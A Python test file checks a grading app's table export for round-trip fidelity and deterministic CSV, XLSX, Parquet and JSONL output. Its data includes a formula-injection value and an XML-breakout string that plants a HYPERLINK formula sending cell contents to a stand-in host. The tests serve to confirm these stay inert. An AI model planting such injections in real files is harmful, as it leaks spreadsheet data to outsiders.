"""Tables as files: each format reads back with another library as what was written."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from gradeapp.common import table_files
from gradeapp.common.table_files import FileFormat, LongTable, parts, sha256_of, write_table

COLUMNS = {"name": str, "n": int, "points": float}
ROWS = [
    ("=1+1", 1, Decimal("6.75")),
    ("第二步，缺单位", None, 2.5),
    ("two\nlines, “quoted”", 2, None),
]


def from_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[1:]


def from_workbook(content: bytes) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [row for page in book for row in page.iter_rows(min_row=2)]
    assert {cell.data_type for row in cells for cell in row} <= {"s", "n"}, "no formula"
    return [[cell.value for cell in row] for row in cells]


def from_parquet(content: bytes) -> list[list[Any]]:
    parquet = pytest.importorskip("pyarrow.parquet")
    read = parquet.read_table(io.BytesIO(content))
    assert [str(kind) for kind in read.schema.types] == ["string", "int64", "double"]
    return [list(row.values()) for row in read.to_pylist()]


def from_lines(content: bytes) -> list[list[Any]]:
    return [list(json.loads(line).values()) for line in content.decode().splitlines()]


PLAIN = [["=1+1", 1, 6.75], ["第二步，缺单位", None, 2.5], ["two\nlines, “quoted”", 2, None]]
IN_CSV = [["'=1+1", "1", "6.75"], ["第二步，缺单位", "", "2.5"], ["two\nlines, “quoted”", "2", ""]]


@pytest.mark.parametrize(
    ("form", "read", "expected"),
    [
        ("csv", from_csv, IN_CSV),
        ("xlsx", from_workbook, PLAIN),
        ("parquet", from_parquet, PLAIN),
        ("jsonl", from_lines, PLAIN),
    ],
)
def test_every_format_reads_back(
    form: str,
    read: Callable[[bytes], list[list[Any]]],
    expected: list[list[Any]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Pages, groups and sheets end within the three rows, and no byte depends on the clock."""
    if form == "parquet":
        pytest.importorskip("pyarrow")
    monkeypatch.setattr(table_files, "GROUP", 2)
    monkeypatch.setattr(table_files, "PAGE_OF_WORKBOOK", 2)
    out, counted = io.BytesIO(), list[int]()
    made = LongTable(COLUMNS, [ROWS[:1], ROWS[1:]])
    assert write_table(made, out, FileFormat(form), on_rows=counted.append) == 3
    assert counted[-1] == 3
    assert read(out.getvalue()) == expected
    again = io.BytesIO()
    write_table(LongTable(COLUMNS, [ROWS]), again, FileFormat(form))
    assert sha256_of(again) == sha256_of(out)


def test_markup_stays_text_in_the_cells_and_the_header_of_a_workbook() -> None:
    """XlsxWriter copies a string between these tags as it is: cells, formulas and figures."""
    formula = '</is></c><c r="Y2" t="str"><f>HYPERLINK("http://x.example/?"&amp;B2)</f></c>'
    texts = [f"<r><t>good</t></r>{formula}<r></r>", "<r></r>", "<r> é </r>"]
    out = io.BytesIO()
    made = LongTable(dict.fromkeys(texts, str), [[texts]])
    write_table(made, out, FileFormat.XLSX)
    page = openpyxl.load_workbook(out).active
    assert [[cell.value for cell in row] for row in page.iter_rows()] == [texts, texts]
    assert {cell.data_type for row in page.iter_rows() for cell in row} == {"s"}


def test_a_stream_begins_before_its_rows_are_read() -> None:
    """The header of a CSV file needs no row; a mark for Excel stands before it if it is asked."""

    def pages() -> Any:
        yield ROWS
        raise AssertionError("the second page was asked for")

    for bom in (True, False):
        found = parts(LongTable(COLUMNS, pages()), FileFormat.CSV, bom=bom)
        header, n = next(found)
        assert header == b"\xef\xbb\xbf" * bom + b'"name","n","points"\r\n'
        assert (n, next(found)[1]) == (0, 3)
